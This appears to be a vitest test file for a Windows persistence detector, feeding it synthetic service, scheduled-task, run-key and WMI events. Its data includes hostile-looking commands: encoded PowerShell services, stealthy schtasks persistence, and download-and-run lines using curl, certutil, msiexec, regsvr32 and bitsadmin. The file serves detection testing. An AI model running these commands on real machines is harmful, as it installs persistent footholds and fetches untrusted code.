import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { detector } from "../../../src/detect/persistence-mechanism/index.js";
import { minutesOf } from "../../../src/detect/persistence-mechanism/judge.js";
import { commandTraits } from "../../../src/detect/shared/command-line.js";
import { ENGINES } from "../../support/stores.js";
import { commonRealm, later, type MadeEvent, told, WindowsWorld } from "../windows/world.js";

type More = Partial<MadeEvent>;

const service = (name: string, path: string, more: More = {}): MadeEvent => ({
  id: 7045,
  channel: "System",
  data: {
    ServiceName: name,
    ImagePath: path,
    ServiceType: "user mode service",
    StartType: "auto start",
    AccountName: "LocalSystem",
  },
  ...more,
});
const task = (name: string, command: string, args = "", interval = "", more: More = {}): MadeEvent => ({
  id: 4698,
  channel: "Security",
  data: {
    TaskName: name,
    SubjectUserName: "anna",
    TaskContent: `<Task><Triggers>${interval === "" ? "" : `<Repetition><Interval>${interval}</Interval></Repetition>`}</Triggers><Exec><Command>${command}</Command><Arguments>${args}</Arguments></Exec></Task>`,
  },
  ...more,
});
const run = (
  name: string,
  value: string,
  more: More = {},
  image = "C:\\Program Files\\App\\setup.exe",
): MadeEvent => ({
  id: 13,
  data: {
    EventType: "SetValue",
    Image: image,
    TargetObject: `HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\${name}`,
    Details: value,
    User: "CORP\\anna",
  },
  ...more,
});
const started = (commandLine: string, parent: string, more: More = {}): MadeEvent => ({
  id: 1,
  data: {
    Image: "C:\\Windows\\System32\\schtasks.exe",
    CommandLine: commandLine,
    ParentImage: parent,
    User: "CORP\\anna",
  },
  ...more,
});

describe.each(ENGINES)("persistence-mechanism: $name", (engine) => {
  let world: WindowsWorld;
  beforeAll(async () => {
    world = await WindowsWorld.open(engine);
  });
  afterAll(() => world.close());
  beforeEach(() => world.clear());
  const find = async (events: readonly MadeEvent[], choice: Parameters<WindowsWorld["run"]>[1] = {}) => {
    await world.store(events);
    return (await world.run(detector, choice)).findings;
  };

  it("a task every minute, named after a vendor, in a public folder is high, by audit and by command line alike", async () => {
    const program = "C:\\Users\\Public\\Libraries\\adobe_wf.exe";
    const byAudit = await find([task("\\Microsoft_Licensing", program, "", "PT1M")], {
      organisations: { ministry: "default" },
    });
    expect(byAudit[0]).toMatchObject({
      title: "scheduled task Microsoft_Licensing starts adobe_wf.exe: WS-01",
      severity: "high",
      org_id: "ministry",
      attack: ["T1053.005"],
      facts: { what: "task", interval: "PT1M", command: program },
    });
    await world.clear();
    const byCommand = await find(
      [
        started(
          `schtasks /F /Create /TN Microsoft_Licensing /sc minute /MO 1 /TR ${program}`,
          "C:\\Windows\\System32\\cmd.exe",
        ),
      ],
      { organisations: { ministry: "default" } },
    );
    expect(byCommand[0]).toMatchObject({
      severity: "high",
      id: byAudit[0]?.id,
      facts: { interval: "1 minute" },
    });
  });

  it("what ordinary software and Windows install is no finding", async () => {
    expect(
      told(
        await find([
          service("Google Update", '"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe" /svc'),
          service("VMware VMCI Bus Driver", "System32\\drivers\\vmci.sys"),
          service(
            "MpKsl32c6bc4d",
            "C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\{7FE298A3-1ECC-4A51-B10F-07C92F86A642}\\MpKslDrv.sys",
          ),
          task("\\Microsoft\\Windows\\SoftwareProtectionPlatform\\SvcRestartTask", "", "", "PT1M"),
          task("\\Vendor\\Update", "C:\\Program Files\\Vendor\\update.exe", "/silent", "PT1M"),
          run(
            "Run\\OneDrive",
            '"C:\\Users\\anna\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background',
          ),
          run("RunOnce\\{1-2}", '"C:\\ProgramData\\Package Cache\\{1-2}\\vc_redist.exe" /burn.runonce'),
          run(
            "RunOnce\\Delete Cached Update Binary",
            'C:\\Windows\\system32\\cmd.exe /q /c del /q "C:\\Users\\anna\\AppData\\Local\\Microsoft\\OneDrive\\Update\\OneDriveSetup.exe"',
          ),
          {
            id: 11,
            data: {
              Image: "C:\\Program Files\\Office\\onenote.exe",
              TargetFilename:
                "C:\\Users\\anna\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\Send to OneNote.lnk",
            },
          },
          {
            id: 5861,
            channel: "Microsoft-Windows-WMI-Activity/Operational",
            data: {
              CONSUMER: 'NTEventLogEventConsumer="SCM Event Log Consumer"',
              ESS: "SCM Event Log Filter",
              PossibleCause: "",
            },
          },
        ]),
      ),
    ).toEqual([]);
  });

  it("a service that runs an encoded command is high, and its secrets are masked", async () => {
    const [finding] = await find([
      service(
        "Updater",
        `%COMSPEC% /C start /b powershell -noP -w 1 -enc ${"SQBFAFgA".repeat(8)} password=hunter2`,
      ),
    ]);
    expect(finding).toMatchObject({ severity: "high", attack: ["T1543.003"] });
    expect(JSON.stringify(finding)).not.toContain("hunter2");
  });

  it("a WMI subscription with a command is medium, whoever logs it; a deletion is none", async () => {
    const found = await find([
      {
        id: 20,
        data: {
          Operation: "Created",
          Name: ' "Bot"',
          Type: "Command Line",
          Destination: ' "C:\\\\Windows\\\\System32\\\\notepad.exe"',
        },
      },
      {
        id: 20,
        data: { Operation: "Deleted", Name: ' "Gone"', Type: "Command Line", Destination: ' "cmd.exe"' },
      },
      {
        id: 5861,
        channel: "Microsoft-Windows-WMI-Activity/Operational",
        data: {
          CONSUMER: 'CommandLineEventConsumer="Other"',
          PossibleCause:
            'instance of CommandLineEventConsumer\n{\n\tCommandLineTemplate = "C:\\\\Users\\\\Public\\\\x.exe -k";\n};',
        },
      },
    ]);
    expect(told(found)).toEqual([
      "high: WMI subscription Other starts x.exe: WS-01",
      "medium: WMI subscription Bot starts notepad.exe: WS-01",
    ]);
  });

  it("a run key to a file with the name of a process of Windows, written by a program of users' folders, is high", async () => {
    const [finding] = await find([
      run(
        "Run\\360v",
        "C:\\Users\\anna\\AppData\\Roaming\\svchost.exe",
        {},
        "C:\\Users\\anna\\AppData\\Roaming\\player.exe",
      ),
    ]);
    expect(finding).toMatchObject({ severity: "high", attack: ["T1547.001"] });
    expect(finding?.entities).toContainEqual({
      kind: "account",
      value: "CORP\\anna",
      realm: "default",
      role: "maker",
    });
  });

  it("a task that is deleted at once ran a command for somebody", async () => {
    const [finding] = await find([
      task("\\CYAlyNSS", "cmd.exe", "/C tasklist &gt; %windir%\\Temp\\CYAlyNSS.tmp 2&gt;&amp;1"),
      { id: 4699, channel: "Security", time: later(30), data: { TaskName: "\\CYAlyNSS" } },
    ]);
    expect(finding?.severity).toBe("high");
    expect(finding?.components).toContainEqual(expect.objectContaining({ name: "brief", value: 1 }));
  });

  it.each(["\\CYAlyNSS", "\\Ärger\\Größe ÇŞ|%1{x}'", "\\计划\u202etxt", "\\-\n\u0000$"])(
    "knows the deletion of the task %j, made by audit or command line, and not one before it was made",
    async (name) => {
      const deleted = (seconds: number): MadeEvent => ({
        id: 4699,
        channel: "Security",
        time: later(seconds),
        data: { TaskName: name },
      });
      const made = task(name, "C:\\Users\\Public\\x.exe", "", "", { time: later(300) });
      const [finding] = await find([deleted(0), made, deleted(330), deleted(9000)]);
      expect(finding?.components).toContainEqual(
        expect.objectContaining({
          name: "brief",
          value: 1,
          meaning: "Deleted 0.5 minutes after it was made.",
        }),
      );
      await world.clear();
      const plain = name.replace(/^\\/, "");
      const command = `schtasks /create /tn "${plain}" /tr C:\\Users\\Public\\x.exe /sc once /st 00:00`;
      const [byCommand] = await find([
        started(command, "C:\\Windows\\System32\\cmd.exe", { time: later(300) }),
        deleted(330),
      ]);
      expect(byCommand?.components).toContainEqual(expect.objectContaining({ name: "brief", value: 1 }));
      expect(byCommand?.id).toBe(finding?.id);
      await world.clear();
      const [stays] = await find([deleted(0), made]);
      expect(stays?.components).toContainEqual(expect.objectContaining({ name: "brief", value: 0 }));
    },
  );

  it("hosts of two organisations in one realm have findings of their own, and so have hosts that are nobody's", async () => {
    const program = "C:\\Users\\Public\\adobe_wf.exe";
    const found = await find(
      [
        ...["A-1", "A-2", "B-1"].map((host) => task("\\Update", program, "", "PT1M", { host })),
        // A week later nobody knows any more what address it has.
        ...["A-2", "C-1"].map((host) =>
          task("\\Update", program, "", "PT1M", { host, time: later(7 * 86_400) }),
        ),
      ],
      await commonRealm("default", ["A-1", "A-2", "B-1"]),
    );
    const entities = ({ entities: all }: (typeof found)[number]) =>
      all.filter(({ kind }) => kind === "host" || kind === "address").map(({ value }) => value);
    expect(found.map((each) => [each.org_id, each.facts.made, ...entities(each)]).sort()).toEqual([
      [null, 2, "A-2", "C-1"],
      ["one", 2, "A-1", "A-2", "10.1.0.1", "10.1.0.2"],
      ["two", 1, "B-1", "10.2.0.3"],
    ]);
    expect(new Set(found.map(({ id }) => id)).size).toBe(3);
  });

  it("on many hosts the same mechanism is one finding, and low", async () => {
    const everywhere = Array.from({ length: 10 }, (_, at) =>
      task("\\Fleet Agent", "C:\\ProgramData\\Fleet\\agent.exe", "", "PT5M", { host: `WS-${at}` }),
    );
    const found = await find([
      ...everywhere,
      task("\\Other", "C:\\ProgramData\\Fake\\agent2.exe", "", "PT5M", { host: "WS-3" }),
    ]);
    expect(told(found)).toEqual([
      "high: scheduled task Other starts agent2.exe: WS-3",
      "low: scheduled task Fleet Agent starts agent.exe: WS-0 and 9 more",
    ]);
  });

  it("a definition that a collector escaped once more is read all the same", async () => {
    const escaped = task("\\x", "C:\\Users\\Public\\x.exe", "", "PT1M");
    escaped.data.TaskContent = (escaped.data.TaskContent ?? "")
      .replaceAll("<", "&lt;")
      .replaceAll(">", "&gt;");
    expect((await find([escaped]))[0]?.facts).toMatchObject({
      command: "C:\\Users\\Public\\x.exe",
      interval: "PT1M",
    });
  });

  it("without any such event it has not tested anything", async () => {
    await world.store([{ id: 4624, channel: "Security", data: {} }]);
    expect((await world.run(detector)).notTested).toMatch(/no event tells/);
  });
});

describe("command lines", () => {
  it.each([
    [
      '"C:\\Program Files\\App\\app.exe" -x C:\\Users\\Public\\data.bin',
      "C:\\Program Files\\App\\app.exe",
      0,
      0,
    ],
    ["C:\\Program Files\\Some App\\app.exe /run", "C:\\Program Files\\Some App\\app.exe", 0, 0],
    ["rundll32.exe C:\\Users\\Public\\x.dll,Start", "rundll32.exe", 1, 0.4],
    ["%SystemRoot%\\system32\\svchost.exe -k print", "C:\\Windows\\system32\\svchost.exe", 0, 0],
    ["\\??\\C:\\Windows\\Temp\\a.sys", "C:\\Windows\\Temp\\a.sys", 1, 0],
    ['"mshta.exe https://example.org/x.txt"', "mshta.exe", 0, 1],
    ['powershell -c "iwr https://example.org/x.exe -o x.exe"', "powershell", 0, 1],
    ["powershell -ExecutionPolicy Bypass -File C:\\Program Files\\App\\x.ps1", "powershell", 0, 0.4],
    ["", "", 0, 0],
  ])("%s", (line, program, place, deed) => {
    expect(commandTraits(line)).toMatchObject({ program, place, deed });
  });

  it.each([
    ["cmd /c curl -s https://example.org/x.exe -o x.exe", true],
    ["curl.exe -V | findstr https:", false],
    ["certutil.exe -urlcache -f http://example.org/x x.exe", true],
    ["certutil -hashfile x.exe", false],
    ["msiexec /i https://example.org/x.msi /quiet", true],
    ["msiexec.exe /q /i http://example.org/x.msi", true],
    ["msiexec /i https://example.org/x.msi", false],
    ["regsvr32 /s /n /u /i:http://example.org/x.sct scrobj.dll", true],
    ["bitsadmin /transfer j https://example.org/x x.exe", true],
  ])("%s: a download that is run is %s", (line, expected) => {
    expect(commandTraits(line).deeds.includes("a download that is run")).toBe(expected);
  });

  it.each([
    ["curl ", 200_000],
    ["msiexec /q ", 200_000],
    ["bitsadmin|", 200_000],
    ["c:\\", 200_000],
    [" ", 200_000],
    ["a b", 200_000],
    [" -e ", 200_000],
  ])("are read soon, made of %j however often", (piece, times) => {
    const { program } = commandTraits(`cmd.exe /c c:\\x${piece.repeat(times)}`);
    expect(program).toBe("cmd.exe");
  });

  it("intervals are read as Task Scheduler and schtasks write them", () => {
    expect(
      ["PT1M", "P1D", "PT1H30M", "PT30S", "5 minute", "1 hourly", "1 onlogon", "", "P"].map(minutesOf),
    ).toEqual([1, 1440, 90, 0.5, 5, 60, undefined, undefined, undefined]);
  });
});
